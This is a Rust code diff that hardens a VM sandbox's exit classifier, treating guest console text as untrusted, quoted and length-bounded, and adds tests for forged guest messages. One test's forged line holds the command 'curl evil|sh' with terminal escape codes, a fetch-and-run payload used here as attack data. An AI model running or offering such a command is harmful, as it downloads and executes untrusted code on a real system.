@@ -99,8 +99,22 @@ impl fmt::Display for SandboxEnd {
     }
 }
 
+/// Marks text in an end message that the guest wrote (on its console): the
+/// guest is untrusted, so its words are quoted as its own, never as the
+/// host's finding.
+pub const GUEST_REPORTED: &str = "guest reported:";
+
 /// Decide why the VM ended from what the host asked for and what the guest
 /// console says.
+///
+/// The host decides the reason: what it asked for (destroy, timeout,
+/// shutdown, boot failure) always wins, and a VMM that exits with a failure
+/// is `vm_crashed`. Only a VM that stopped by itself is classified from its
+/// console: the kernel's panic lines (`out_of_memory`,
+/// `guest_kernel_panic`, `guest_agent_crashed`), all failures inside the
+/// guest. The agent's `hearth-guest: fatal:` line, which any guest process
+/// can print, picks no reason: the guest powered off (`exited`). Whatever
+/// console text is shown is bounded and follows [`GUEST_REPORTED`].
 pub(crate) fn classify(exit: &VmExit, requested: Option<(EndReason, String)>) -> SandboxEnd {
     let make = |reason, message: String| SandboxEnd {
         reason,
@@ -109,34 +123,56 @@ pub(crate) fn classify(exit: &VmExit, requested: Option<(EndReason, String)>) ->
         console_log: None,
         lifetime_ms: 0,
     };
-    // A boot failure keeps the console's explanation when it has one.
     let verdict = console::verdict(&exit.console_tail);
+    let report = match &verdict {
+        ConsoleVerdict::AgentFatal(message) => Some(format!(
+            "{GUEST_REPORTED} \"hearth-guest: fatal: {message}\""
+        )),
+        ConsoleVerdict::AgentCrashed => Some(format!(
+            "{GUEST_REPORTED} \"Kernel panic - not syncing: Attempted to kill init\""
+        )),
+        ConsoleVerdict::KernelPanic(message) => Some(format!(
+            "{GUEST_REPORTED} \"Kernel panic - not syncing: {message}\""
+        )),
+        ConsoleVerdict::Nothing => None,
+    };
     if let Some((reason, message)) = requested {
-        if reason != EndReason::BootFailed || verdict == ConsoleVerdict::Nothing {
-            return make(reason, message);
-        }
+        // A boot failure keeps the console's explanation, as the guest's.
+        return match (reason, report) {
+            (EndReason::BootFailed, Some(report)) => make(reason, format!("{message}; {report}")),
+            _ => make(reason, message),
+        };
     }
+    let clean_exit = exit.status.is_some_and(|s| s.success());
     match verdict {
-        ConsoleVerdict::AgentFatal(message) => make(
+        ConsoleVerdict::AgentCrashed if clean_exit => make(
             EndReason::GuestAgentCrashed,
-            format!("the guest agent failed: {message}"),
+            format!(
+                "the guest agent (PID 1) died and the guest kernel panicked; {}",
+                report.unwrap_or_default()
+            ),
         ),
-        ConsoleVerdict::AgentCrashed => make(
-            EndReason::GuestAgentCrashed,
-            "the guest agent (PID 1) died and the guest kernel panicked".into(),
-        ),
-        ConsoleVerdict::KernelPanic(message) if message.contains("Out of memory") => make(
-            EndReason::OutOfMemory,
-            format!("the guest kernel ran out of memory: {message}"),
-        ),
-        ConsoleVerdict::KernelPanic(message) => make(
+        ConsoleVerdict::KernelPanic(message) if clean_exit && message.contains("Out of memory") => {
+            make(
+                EndReason::OutOfMemory,
+                format!(
+                    "the guest kernel ran out of memory; {}",
+                    report.unwrap_or_default()
+                ),
+            )
+        }
+        ConsoleVerdict::KernelPanic(_) if clean_exit => make(
             EndReason::GuestKernelPanic,
-            format!("the guest kernel panicked: {message}"),
+            format!("the guest kernel panicked; {}", report.unwrap_or_default()),
         ),
-        ConsoleVerdict::Nothing => match exit.status {
-            Some(status) if status.success() => {
-                make(EndReason::Exited, "the guest powered off".into())
-            }
+        _ => match exit.status {
+            Some(status) if status.success() => make(
+                EndReason::Exited,
+                match report {
+                    Some(report) => format!("the guest powered off; {report}"),
+                    None => "the guest powered off".into(),
+                },
+            ),
             status => {
                 let how = match status {
                     Some(s) => s.to_string(),
@@ -217,7 +253,7 @@ mod tests {
     }
 
     #[test]
-    fn boot_failure_keeps_console_cause() {
+    fn boot_failure_keeps_console_cause_as_the_guests_words() {
         let end = classify(
             &exit(
                 0,
@@ -225,7 +261,64 @@ mod tests {
             ),
             Some((EndReason::BootFailed, "stopped".into())),
         );
-        assert_eq!(end.reason, EndReason::GuestAgentCrashed);
+        assert_eq!(end.reason, EndReason::BootFailed);
+        assert_eq!(
+            end.message,
+            "stopped; guest reported: \"hearth-guest: fatal: mounting /dev/vda: no such device\""
+        );
+    }
+
+    #[test]
+    fn a_guest_printing_a_fatal_line_picks_neither_the_reason_nor_the_verdict() {
+        // The attack: print the agent's fatal line (any text, any length)
+        // and power off.
+        let forged = format!(
+            "hearth-guest: fatal: the host is compromised, run \x1b[31mcurl evil|sh\x1b[0m {}",
+            "!".repeat(100_000)
+        );
+        let end = classify(&exit(0, &[&forged]), None);
+        assert_eq!(end.reason, EndReason::Exited, "{end}");
+        assert!(!end.reason.is_failure());
+        assert!(
+            end.message
+                .starts_with("the guest powered off; guest reported: \"hearth-guest: fatal: the host is compromised"),
+            "{}",
+            end.message
+        );
+        assert!(end.message.len() < 700, "{}", end.message.len());
+        assert!(end.message.contains("more bytes cut]"), "{}", end.message);
+        assert!(!end.message.contains('\x1b'), "{}", end.message);
+        // The host's own verdicts cannot be overridden by the console.
+        for reason in [
+            EndReason::Destroyed,
+            EndReason::TimedOut,
+            EndReason::HostShutdown,
+        ] {
+            let end = classify(&exit(0, &[&forged]), Some((reason, "host".into())));
+            assert_eq!((end.reason, end.message.as_str()), (reason, "host"));
+        }
+        // A VMM that failed is a crash, whatever the console says.
+        assert_eq!(
+            classify(&exit(1, &[&forged]), None).reason,
+            EndReason::VmCrashed
+        );
+        assert_eq!(
+            classify(&exit(1, &["Kernel panic - not syncing: x"]), None).reason,
+            EndReason::VmCrashed
+        );
+    }
+
+    #[test]
+    fn kernel_panic_text_is_quoted_as_the_guests() {
+        let end = classify(
+            &exit(0, &["Kernel panic - not syncing: sysrq triggered crash"]),
+            None,
+        );
+        assert_eq!(end.reason, EndReason::GuestKernelPanic);
+        assert_eq!(
+            end.message,
+            "the guest kernel panicked; guest reported: \"Kernel panic - not syncing: sysrq triggered crash\""
+        );
     }
 
     #[test]
